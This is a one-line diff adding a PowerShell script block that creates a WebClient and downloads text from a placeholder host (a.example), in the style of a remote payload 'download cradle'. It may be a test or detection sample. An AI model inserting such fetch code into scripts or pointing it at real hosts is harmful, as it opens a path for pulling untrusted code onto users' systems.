@@ -1,0 +1,1 @@
+begin{$w=New-Object Net.WebClient} process{} end{$w.DownloadString('http://a.example/p/x.txt')}
